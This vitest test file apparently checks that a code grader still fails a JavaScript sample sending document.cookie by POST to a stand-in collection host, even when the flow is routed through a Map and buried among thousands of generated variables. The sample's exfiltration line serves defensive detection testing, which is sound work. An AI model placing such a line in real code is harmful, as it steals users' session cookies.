import { expect, test } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Fifty objects that thousands of variables may be: more than one scan has time to hand on. */
const HUB = `const hub = []; const found = (at) => hub[at];
  ${Array.from({ length: 50 }, (_, at) => `hub.push({ one: hub, own${at}: (x) => x + ${at} });`).join('\n')}
  ${Array.from({ length: 8000 }, (_, at) => `const v${at} = found(${at}); v${at}.next = found(self.n); show(v${at}, v${at}.next.one);`).join('\n')}`;

test('what is known of a few objects is known whatever else a program hands on', { timeout: 60_000 }, async () => {
  const held = `class Out { send(x) { fetch('https://collect.example/', { method: 'POST', body: x }); } }
      const table = new Map([['out', { inner: [new Out()] }]]);
      const pick = (all, name) => all.get(name);
      for (const one of pick(table, 'out').inner) one.send(document.cookie);`;
  for (const code of [held + HUB, HUB + held]) expect(await graded({ content: code })).toBe('F');
});
